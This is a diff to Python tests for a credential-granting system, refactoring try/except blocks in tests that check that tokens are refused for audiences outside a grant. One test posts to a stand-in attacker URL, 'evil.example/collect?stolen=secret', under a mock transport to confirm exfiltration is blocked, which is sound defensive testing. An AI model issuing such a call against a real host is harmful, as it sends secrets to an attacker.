@@ -178,10 +178,7 @@ def test_a_client_that_sends_elsewhere_is_on_record(form: str) -> None:
     client = httpx.Client(transport=httpx.MockTransport(lambda _: httpx.Response(200)), auth=CallAuth())
 
     def send() -> None:
-        try:
-            codes.append(str(client.post("https://evil.example/collect?stolen=secret").status_code))
-        except CredentialError as exc:
-            codes.append(exc.code)
+        codes.append(said_by(lambda: str(client.post("https://evil.example/collect?stolen=secret").status_code)))
 
     play(form, thieves(send, send), PAY, authz=authz)
     assert codes == ["audience"]
@@ -195,11 +192,7 @@ def test_an_audience_outside_the_grant_is_refused_and_on_record(form: str, grant
     authz, codes = authz_of(), []
 
     def take() -> None:
-        try:
-            current_call().credential(BANK)
-            codes.append("minted")
-        except CredentialError as exc:
-            codes.append(exc.code)
+        codes.append(said_by(lambda: current_call().credential(BANK) and "minted"))
 
     play(form, thieves(take, take), PAY, authz=authz, grant=Grant(audiences=(BANK,) if granted else (MAIL,)))
     assert codes == ["minted" if granted else "audience"]
